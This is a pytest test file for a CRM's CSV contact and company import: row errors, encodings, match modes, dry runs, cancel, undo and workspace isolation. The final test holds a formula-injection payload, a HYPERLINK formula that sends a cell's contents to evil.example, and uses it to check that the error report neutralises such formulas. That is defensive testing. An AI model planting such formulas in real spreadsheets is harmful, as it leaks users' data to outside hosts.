import csv
import io

import pytest

from rapport.audit.models import AuditEntry
from rapport.contacts.models import Company, Contact
from rapport.contacts.tests.factories import make_company, make_contact
from rapport.core.errors import ServiceValidationError
from rapport.data.contact_importers import ContactImporter
from rapport.data.importers import ImportRow, importer_get
from rapport.data.models import ImportRowError, ImportStatus
from rapport.data.queries import import_errors_csv, import_undo_total
from rapport.data.services import (
    import_cancel,
    import_dry_run,
    import_process,
    import_start,
    import_undo,
)
from rapport.tenancy.access import workspace_scope

PEOPLE = """First Name,Last Name,Email Address,Phone Number,Company,Job Title
Ann,Lee,ann@acme.io,+1 415 555 2671,Acme,CTO
Bob,Ray,not-an-email,+1 415 555 2672,Acme,CEO
Cy,Dee,cy@acme.io,12,,Intern
Di,Eve,di@acme.io,,Globex,
"""


@pytest.fixture(params=[True, False], ids=["bulk", "row"])
def import_bulk(request):
    """Every import test runs down the bulk path and the row path: same results."""
    return request.param


def _errors(batch):
    with workspace_scope(batch.workspace):
        return [(e.row, e.column, e.message) for e in ImportRowError.objects.filter(batch=batch)]


def test_good_rows_are_imported_and_bad_ones_reported_by_row_and_column(
    workspace, upload, run_import
):
    batch = run_import(upload(workspace, PEOPLE))

    assert (batch.status, batch.rows, batch.created, batch.failed) == ("done", 4, 2, 2)
    errors = _errors(batch)
    assert [(row, column) for row, column, _ in errors] == [
        (3, "Email Address"),
        (4, "Phone Number"),
    ]
    assert "'not-an-email' is not a valid email" in errors[0][2]
    with workspace_scope(workspace):
        ann = Contact.objects.get(email="ann@acme.io")
        assert (ann.phone, ann.job_title, ann.primary_company.name) == (
            "+14155552671",
            "CTO",
            "Acme",
        )
        assert sorted(Company.objects.values_list("name", flat=True)) == ["Acme", "Globex"]
        assert not Contact.objects.filter(first_name__in=["Bob", "Cy"]).exists()


def test_a_company_created_for_a_bad_row_is_rolled_back_with_it(workspace, upload, run_import):
    run_import(
        upload(workspace, "Name,Email,Company\nBob,bad@,Initech\n"),
        mapping={"Name": "first_name", "Email": "email", "Company": "company"},
    )

    with workspace_scope(workspace):
        assert not Company.objects.filter(name="Initech").exists()


def test_ragged_and_huge_rows_are_errors_and_lose_nothing_around_them(
    workspace, upload, run_import
):
    huge = "x" * 200_000
    text = f'First Name,Email\nAnn,ann@x.io\nBob\nCy,cy@x.io,extra\n"{huge}",big@x.io\nDi,di@x.io\n'

    batch = run_import(upload(workspace, text))

    assert (batch.rows, batch.created, batch.failed) == (5, 2, 3)
    assert [(row, column) for row, column, _ in _errors(batch)] == [
        (3, ""),
        (4, ""),
        (5, "First Name"),
    ]
    with workspace_scope(workspace):
        assert set(Contact.objects.values_list("email", flat=True)) == {"ann@x.io", "di@x.io"}


def test_a_cp1252_file_is_imported_with_its_accents(workspace, upload, run_import):
    raw = "Vorname;Nachname;E-Mail\nJürgen;Müller;j@x.de\n".encode("cp1252")

    run_import(
        upload(workspace, raw),
        mapping={"Vorname": "first_name", "Nachname": "last_name", "E-Mail": "email"},
    )

    with workspace_scope(workspace):
        assert Contact.objects.get(email="j@x.de").last_name == "Müller"


def test_an_empty_file_cannot_be_uploaded(workspace, upload):
    with pytest.raises(ServiceValidationError) as exc:
        upload(workspace, b"")

    assert exc.value.as_dict() == {"file": ["'people.csv': the file is empty"]}


def test_a_mapping_to_an_unknown_field_or_column_is_refused(workspace, upload, run_import):
    batch = upload(workspace, PEOPLE)

    with pytest.raises(ServiceValidationError) as exc:
        run_import(batch, mapping={"First Name": "shoe_size", "Nope": "email"})

    assert set(exc.value.as_dict()) == {"mapping.First Name", "mapping.Nope"}


# --- matching and modes ----------------------------------------------------------------------

EXISTING = "First Name,Job Title,Email,Phone\nAnnie,Boss,ANN@acme.io,\nPhoebe,Chef,,+14155552699\n"


@pytest.fixture
def ann(workspace, owner):
    return make_contact(
        workspace, owner, first_name="Ann", job_title="CTO", emails=["ann@acme.io"], tags=["old"]
    )


@pytest.fixture
def phoebe(workspace, owner):
    return make_contact(workspace, owner, first_name="Phoebe", phones=["+1 415 555 2699"])


def test_skip_mode_leaves_matches_alone(workspace, upload, run_import, ann, phoebe):
    batch = run_import(upload(workspace, EXISTING), mode="skip")

    assert (batch.created, batch.updated, batch.skipped) == (0, 0, 2)
    ann.refresh_from_db()
    assert (ann.first_name, ann.job_title) == ("Ann", "CTO")


def test_update_mode_matches_by_email_then_phone(workspace, upload, run_import, ann, phoebe):
    batch = run_import(upload(workspace, EXISTING), mode="update")

    assert (batch.created, batch.updated, batch.skipped) == (0, 2, 0)
    ann.refresh_from_db()
    phoebe.refresh_from_db()
    assert (ann.first_name, ann.job_title) == ("Annie", "Boss")
    assert phoebe.job_title == "Chef"
    with workspace_scope(workspace):
        assert Contact.objects.count() == 2


def test_update_mode_adds_emails_without_dropping_any(workspace, upload, run_import, ann):
    run_import(upload(workspace, "Email,Work Email\nann@acme.io,ann@work.io\n"), mode="update")

    with workspace_scope(workspace):
        assert [e.email for e in ann.emails.all()] == ["ann@acme.io", "ann@work.io"]


def test_a_bad_value_on_update_names_its_column(workspace, upload, run_import, ann):
    batch = run_import(upload(workspace, "Email,Work Email\nann@acme.io,nope\n"), mode="update")

    assert batch.failed == 1
    assert [(r, c) for r, c, _ in _errors(batch)] == [(2, "Work Email")]


def test_create_mode_creates_even_when_a_record_matches(workspace, upload, run_import, ann):
    batch = run_import(upload(workspace, "First Name,Email\nAnn,ann@acme.io\n"), mode="create")

    assert batch.created == 1
    with workspace_scope(workspace):
        assert Contact.objects.filter(email="ann@acme.io").count() == 2


def test_companies_match_by_domain(workspace, owner, upload, run_import):
    acme = make_company(workspace, owner, name="Acme", domain="acme.io")

    batch = run_import(
        upload(
            workspace,
            "Company Name,Website,Industry\nACME Inc,https://www.acme.io/about,Rockets\nNew,new.io,\n",
            entity="companies",
        ),
        mode="update",
    )

    assert (batch.created, batch.updated) == (1, 1)
    acme.refresh_from_db()
    assert (acme.name, acme.industry) == ("ACME Inc", "Rockets")


def test_matching_never_reaches_into_another_workspace(
    workspace, other_workspace, outsider, upload, run_import
):
    theirs = make_contact(other_workspace, outsider, first_name="Theirs", emails=["ann@acme.io"])

    batch = run_import(upload(workspace, "First Name,Email\nOurs,ann@acme.io\n"), mode="update")

    assert (batch.created, batch.updated) == (1, 0)
    theirs.refresh_from_db()
    assert theirs.first_name == "Theirs"
    with workspace_scope(workspace):
        matched = importer_get("contacts").match(
            workspace=workspace, row=ImportRow(2, {"email": [("Email", "ann@acme.io")]})
        )
        assert Contact.objects.get() == matched


# --- dry run ---------------------------------------------------------------------------------


def test_a_dry_run_shows_rows_as_stored_and_writes_nothing(workspace, owner, upload, ann):
    batch = upload(workspace, PEOPLE)
    audit_before = AuditEntry.unscoped.count()

    with workspace_scope(workspace):
        preview = import_dry_run(
            workspace=workspace, actor=owner, batch=batch, mode="update", limit=3
        )
        assert Contact.objects.count() == 1
        assert not Company.objects.exists()

    assert [(p.row, p.action) for p in preview] == [(2, "updated"), (3, "failed"), (4, "failed")]
    assert preview[0].values["phones"] == ["+14155552671"]
    assert preview[0].values["company"] == "Acme"
    assert preview[1].errors[0].field == "Email Address"
    assert AuditEntry.unscoped.count() == audit_before
    batch.refresh_from_db()
    assert (batch.status, batch.rows) == ("uploaded", 0)


# --- cancel and undo -------------------------------------------------------------------------


def test_an_import_cancelled_half_way_stops_after_its_chunk(
    workspace, owner, upload, run_import, monkeypatch
):
    rows = "".join(f"P{i},p{i}@x.io\n" for i in range(10))
    batch = upload(workspace, "First Name,Email\n" + rows)
    create = ContactImporter.create
    calls = []

    def create_then_cancel(self, *, ctx, row):
        calls.append(row.number)
        if len(calls) == 3:  # the user presses cancel while the second chunk runs
            import_cancel(workspace=workspace, actor=owner, batch=batch)
        return create(self, ctx=ctx, row=row)

    monkeypatch.setattr(ContactImporter, "create", create_then_cancel)

    batch = run_import(batch, chunk_rows=2, bulk=False)

    assert batch.status == "cancelled"
    assert (batch.rows, batch.created) == (4, 4)
    with workspace_scope(workspace):
        assert Contact.objects.count() == 4
        assert import_undo_total(batch=batch) == 4


def test_a_queued_import_cancelled_never_starts(workspace, owner, upload):
    batch = upload(workspace, PEOPLE)
    with workspace_scope(workspace):
        import_start(workspace=workspace, actor=owner, batch=batch, enqueue=False)
        import_cancel(workspace=workspace, actor=owner, batch=batch)
        batch = import_process(workspace=workspace, batch_id=batch.pk)
        assert not Contact.objects.exists()
    assert (batch.status, batch.rows) == ("cancelled", 0)


def test_undo_deletes_what_was_created_and_restores_what_was_updated(
    workspace, owner, upload, run_import, ann
):
    text = (
        "First Name,Email,Company,Tags,Job Title\n"
        "Annie,ann@acme.io,Acme,new,Boss\n"
        "Bob,bob@acme.io,Acme,,\n"
    )
    batch = run_import(upload(workspace, text), mode="update")
    assert (batch.created, batch.updated) == (1, 1)

    with workspace_scope(workspace):
        undone = import_undo(workspace=workspace, actor=owner, batch=batch)
        ann.refresh_from_db()
        assert undone.status == ImportStatus.UNDONE
        assert (ann.first_name, ann.job_title, ann.primary_company_id) == ("Ann", "CTO", None)
        assert [t.name for t in ann.tags.all()] == ["old"]
        assert list(Contact.objects.values_list("pk", flat=True)) == [ann.pk]
        assert not Company.objects.exists()
        entries = AuditEntry.objects.filter(source="system")
        deleted = set(entries.filter(action="delete").values_list("entity", flat=True))
        assert deleted == {"contacts.contact", "contacts.company"}
        restored = entries.filter(entity="contacts.contact", object_id=ann.pk, action="update")
        assert restored.latest("at").changes["first_name"] == ["Annie", "Ann"]
        statuses = entries.filter(entity="data.importbatch").values_list("changes", flat=True)
        assert {"status": ["done", "undoing"]} in statuses
        assert {"status": ["undoing", "undone"]} in statuses


def test_an_import_cannot_be_undone_twice(workspace, owner, upload, run_import):
    batch = run_import(upload(workspace, PEOPLE))
    with workspace_scope(workspace):
        import_undo(workspace=workspace, actor=owner, batch=batch)
        with pytest.raises(ServiceValidationError) as exc:
            import_undo(workspace=workspace, actor=owner, batch=batch)

    assert "undone" in exc.value.as_dict()["status"][0]


# --- the error report ------------------------------------------------------------------------


def test_the_error_report_neutralises_formulas(workspace, upload, run_import):
    text = (
        "First Name,Email,Phone\n"
        '=HYPERLINK("http://evil.example/?"&A1),bad-email,+1 415 555 2671\n'
        "@SUM(1+1),-2+3,x\n"
    )
    batch = run_import(upload(workspace, text))

    with workspace_scope(workspace):
        report = "".join(import_errors_csv(batch=batch))
    rows = list(csv.reader(io.StringIO(report.removeprefix("\ufeff"))))

    assert rows[0] == ["row", "column", "error", "First Name", "Email", "Phone"]
    cells = [cell for row in rows[1:] for cell in row[3:]]
    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in cells
    assert "'@SUM(1+1)" in cells
    assert "'+1 415 555 2671" in cells
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert {row[1] for row in rows[1:]} == {"Email", "Phone"}
